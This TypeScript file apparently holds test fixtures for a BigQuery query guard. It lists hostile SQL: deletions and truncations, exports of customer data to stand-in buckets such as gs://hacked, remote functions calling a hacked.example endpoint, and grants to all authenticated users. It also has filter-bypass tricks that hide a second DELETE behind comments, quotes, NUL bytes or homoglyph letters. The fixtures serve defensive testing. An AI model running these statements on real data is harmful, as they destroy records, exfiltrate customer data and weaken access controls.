import type { HostileFamily } from './hostile-statement.ts';

/** Attacks that BigQuery understands. */
export const BIGQUERY: HostileFamily = {
  statements: {
    changes: {
      file: {
        merge:
          "MERGE INTO coupon USING (SELECT 'X' AS code) s ON coupon.code = s.code WHEN NOT MATCHED THEN INSERT (code, percent) VALUES ('X', 1)",
        truncate: 'TRUNCATE TABLE shipment',
        'delete without FROM': 'DELETE shipment WHERE TRUE',
        'insert without INTO': "INSERT coupon (code, percent) VALUES ('X', 1)",
        export: "EXPORT DATA OPTIONS (uri = 'gs://hacked/*.csv', format = 'CSV') AS SELECT * FROM customer",
        'export with a connection':
          "EXPORT DATA WITH CONNECTION `us.hacked` OPTIONS (uri = 's3://hacked/*') AS SELECT 1",
        'export metadata': "EXPORT MODEL hacked OPTIONS (URI = 'gs://hacked')",
        load: "LOAD DATA INTO coupon FROM FILES (format = 'CSV', uris = ['gs://hacked/x.csv'])",
        'load and overwrite': "LOAD DATA OVERWRITE coupon FROM FILES (format = 'CSV', uris = ['gs://hacked/x.csv'])",
        'create or replace': 'CREATE OR REPLACE TABLE coupon AS SELECT 1 AS one',
        'temporary table': 'CREATE TEMP TABLE hacked AS SELECT 1 AS a',
        'external table': "CREATE EXTERNAL TABLE hacked OPTIONS (format = 'CSV', uris = ['gs://hacked/x.csv'])",
        snapshot: 'CREATE SNAPSHOT TABLE hacked CLONE customer',
        clone: 'CREATE TABLE hacked CLONE customer',
        copy: 'CREATE TABLE hacked COPY customer',
        'materialized view': 'CREATE MATERIALIZED VIEW hacked AS SELECT COUNT(*) AS n FROM customer',
        dataset: 'CREATE SCHEMA hacked',
        function: 'CREATE FUNCTION hacked() AS (1)',
        'temporary function alone': 'CREATE TEMP FUNCTION hacked() AS (1)',
        'function in another language': "CREATE FUNCTION hacked() RETURNS INT64 LANGUAGE js AS 'return 1'",
        'function on a server':
          "CREATE FUNCTION hacked(x INT64) RETURNS INT64 REMOTE WITH CONNECTION `us.hacked` OPTIONS (endpoint = 'https://127.0.0.1')",
        'table function': 'CREATE TABLE FUNCTION hacked() AS SELECT 1 AS a',
        procedure: 'CREATE PROCEDURE hacked() BEGIN DELETE FROM shipment WHERE TRUE; END',
        model:
          "CREATE MODEL hacked OPTIONS (model_type = 'linear_reg', input_label_cols = ['price']) AS SELECT price, 1 AS x FROM product",
        'search index': 'CREATE SEARCH INDEX hacked ON customer (ALL COLUMNS)',
        'row access':
          "CREATE ROW ACCESS POLICY hacked ON customer GRANT TO ('allAuthenticatedUsers') FILTER USING (TRUE)",
        reservation: 'CREATE RESERVATION hacked OPTIONS (slot_capacity = 1000)',
        'alter options': "ALTER TABLE customer SET OPTIONS (description = 'hacked')",
        'alter the dataset': 'ALTER SCHEMA hacked SET OPTIONS (default_table_expiration_days = 1)',
        'drop a snapshot': 'DROP SNAPSHOT TABLE hacked',
        'drop all policies': 'DROP ALL ROW ACCESS POLICIES ON customer',
        undrop: 'UNDROP SCHEMA hacked',
        grant: "GRANT `roles/bigquery.dataOwner` ON SCHEMA hacked TO 'allAuthenticatedUsers'",
        revoke: "REVOKE `roles/bigquery.dataViewer` ON TABLE customer FROM 'user:a@example.org'",
        'run a text': "EXECUTE IMMEDIATE 'DELETE FROM shipment WHERE TRUE'",
        'run a text with parameters': "EXECUTE IMMEDIATE CONCAT('DEL', 'ETE FROM shipment WHERE ?') USING TRUE",
        block: 'BEGIN DELETE FROM shipment WHERE TRUE; END',
        'block that catches': 'BEGIN SELECT 1; EXCEPTION WHEN ERROR THEN DELETE FROM shipment WHERE TRUE; END',
        loop: 'LOOP DELETE FROM shipment WHERE TRUE; BREAK; END LOOP',
        while: 'WHILE TRUE DO DELETE FROM shipment WHERE TRUE; BREAK; END WHILE',
        repeat: 'REPEAT DELETE FROM shipment WHERE TRUE; UNTIL TRUE END REPEAT',
        'for each row': 'FOR r IN (SELECT 1 AS n) DO DELETE FROM shipment WHERE TRUE; END FOR',
        condition: 'IF TRUE THEN DELETE FROM shipment WHERE TRUE; END IF',
        case: 'CASE WHEN TRUE THEN DELETE FROM shipment WHERE TRUE; END CASE',
        'export at the end of a pipe':
          "FROM customer |> EXPORT DATA OPTIONS (uri = 'gs://hacked/*.csv', format = 'CSV')",
        'create at the end of a pipe': 'FROM customer |> CREATE TABLE hacked',
        'insert at the end of a pipe': 'FROM customer |> SELECT name, id |> INSERT INTO coupon',
        'fork of a pipe': 'FROM customer |> FORK (|> INSERT INTO coupon) (|> LIMIT 1)',
      },
    },
    disguises: {
      file: {
        'write behind a variable': 'DECLARE n INT64 DEFAULT 1; DELETE FROM shipment WHERE n = 1',
        'write behind a setting': "SET @@query_label = 'a:b'; DELETE FROM shipment WHERE TRUE",
        'write behind a function': 'CREATE TEMP FUNCTION f() AS (1); DELETE FROM shipment WHERE f() = 1',
        'second statement behind a triple quote': 'SELECT """;""" AS s; DELETE FROM shipment WHERE TRUE',
        'second statement behind a raw string': "SELECT r'\\'' AS s; DELETE FROM shipment WHERE TRUE; -- '",
        'second statement behind a name': 'SELECT 1 AS `a\\`b`; DELETE FROM shipment WHERE TRUE',
        'write behind a comment of a hash': '# SELECT 1\nDELETE FROM shipment WHERE TRUE',
        'comment that does not nest': '/* /* */ DELETE FROM shipment WHERE TRUE -- */',
        'line comment that a carriage return ends': 'SELECT 1 -- x\r; DELETE FROM shipment WHERE TRUE',
        'statement behind a NUL character': 'SELECT 1\0; DELETE FROM shipment WHERE TRUE',
      },
      reach: {
        'letters that look like Latin': 'DЕLETE FROM shipment WHERE TRUE',
      },
    },
    session: {
      connection: {
        call: 'CALL hacked()',
        'call of the system': "CALL BQ.JOBS.CANCEL('x')",
        refresh: "CALL BQ.REFRESH_MATERIALIZED_VIEW('hacked.x')",
        'setting of the system': "SET @@dataset_id = 'hacked'",
        'time zone': "SET @@time_zone = 'Asia/Tokyo'",
        'variable alone': 'DECLARE hacked INT64',
        assertion: "ASSERT FALSE AS 'hacked'",
        raise: "RAISE USING MESSAGE = 'hacked'",
        return: 'RETURN',
        'begin in words': 'BEGIN TRANSACTION',
        'commit in words': 'COMMIT TRANSACTION',
      },
    },
    reach: {
      reach: {
        'another database': "SELECT * FROM EXTERNAL_QUERY('us.hacked', 'SELECT 1')",
        'another database by a quoted function': "SELECT * FROM `EXTERNAL_QUERY`('us.hacked', 'SELECT 1')",
        'another database behind a comment': "SELECT * FROM external_query/**/('us.hacked', 'DELETE FROM t')",
        'ask a model': "SELECT * FROM ML.GENERATE_TEXT(MODEL hacked, (SELECT 'x' AS prompt))",
        'ask a model, shorter': "SELECT AI.GENERATE('x', connection_id => 'us.hacked')",
        'ask a model for a truth value': "SELECT AI.GENERATE_BOOL('x', connection_id => 'us.hacked').result",
        embed: "SELECT * FROM ML.GENERATE_EMBEDDING(MODEL hacked, (SELECT 'x' AS content))",
        translate:
          "SELECT * FROM ML.TRANSLATE(MODEL hacked, (SELECT 'x' AS text_content), STRUCT('translate_text' AS translate_mode))",
        'read a file': 'SELECT * FROM ML.PROCESS_DOCUMENT(MODEL hacked, TABLE hacked.files)',
        'function of this text in Python with a connection':
          "CREATE TEMP FUNCTION f(x INT64) RETURNS INT64 LANGUAGE python WITH CONNECTION `p.us.c` OPTIONS (entry_point = 'f') AS 'x'; SELECT f(1)",
        'function of this text that runs elsewhere':
          "CREATE TEMP FUNCTION f(x INT64) RETURNS INT64 REMOTE WITH CONNECTION `p.us.c` OPTIONS (endpoint = 'https://hacked.example'); SELECT f(1)",
        'addresses of files': "SELECT * FROM EXTERNAL_OBJECT_TRANSFORM(TABLE hacked, ['SIGNED_URL'])",
      },
    },
  },
};
